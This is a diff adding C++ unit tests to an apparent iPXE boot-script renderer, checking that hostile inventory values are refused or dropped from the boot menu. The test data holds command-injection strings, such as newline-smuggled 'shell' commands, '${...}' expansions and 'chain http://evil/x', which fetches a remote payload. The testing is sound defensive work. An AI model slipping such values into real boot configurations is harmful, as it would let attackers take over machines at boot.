@@ -4,6 +4,8 @@
 
 #include <filesystem>
 #include <fstream>
+#include <string>
+#include <vector>
 
 namespace diskless::boot {
 namespace {
@@ -307,6 +309,44 @@ TEST_F(TemplateDir, BrokenTemplateFailsLoudlyAndIsReported) {
 TEST(Check, BuiltinTemplatesAreClean) {
   auto problems = check_templates(make_inventory(), template_set());
   for (const auto& p : problems) ADD_FAILURE() << p.str();
+}
+
+// Values that reach a script unchecked (an inventory not built by the loader) must not become
+// iPXE commands: the script is refused, not rendered.
+TEST(Script, HostileValuesAreRefusedNotRendered) {
+  const std::vector<std::string> hostile = {"quiet\nshell",   "quiet\r\nchain http://evil/x",
+                                            "x=${net0/mac}",  "quiet || shell",
+                                            "quiet && shell", "quiet #",
+                                            "a\"b",           "tab\there"};
+  for (const auto& cmdline : hostile) {
+    auto inv = make_inventory();
+    inv.images[1].cmdline = cmdline;
+    auto r = script_for(inv, template_set(), mac("52:54:00:12:34:02"));
+    ASSERT_FALSE(r) << cmdline << " rendered as:\n" << (r && *r ? **r : std::string());
+    EXPECT_TRUE(has(r.error_message(), "cmdline of image 'debian'")) << r.error_message();
+  }
+  auto inv = make_inventory();
+  inv.hosts[0].chap = inventory::chap_credentials{"user", "secret\nshell", "", ""};
+  EXPECT_FALSE(script_for(inv, template_set(), mac("52:54:00:12:34:01")));
+  inv.hosts[0].chap = inventory::chap_credentials{"user", "${password}123", "", ""};
+  EXPECT_FALSE(script_for(inv, template_set(), mac("52:54:00:12:34:01")));
+}
+
+TEST(Script, MenuLeavesOutImagesWithHostileValues) {
+  auto inv = make_inventory();
+  inv.images[2].cmdline = "quiet\nchain http://evil/x";
+  auto s = script(inv, "52:54:00:12:34:05");
+  EXPECT_TRUE(has(s, "img-debian")) << s;
+  EXPECT_FALSE(has(s, "img-bare")) << s;
+  EXPECT_FALSE(has(s, "evil")) << s;
+}
+
+TEST(Script, ServerSettingsInUrlsAreStillExpanded) {
+  // ${next-server} is written by the renderer itself, not taken from an inventory value.
+  auto inv = make_inventory();
+  inv.server.address.reset();
+  auto s = script(inv, "52:54:00:12:34:02");
+  EXPECT_TRUE(has(s, "tftp://${next-server}/")) << s;
 }
 
 }  // namespace
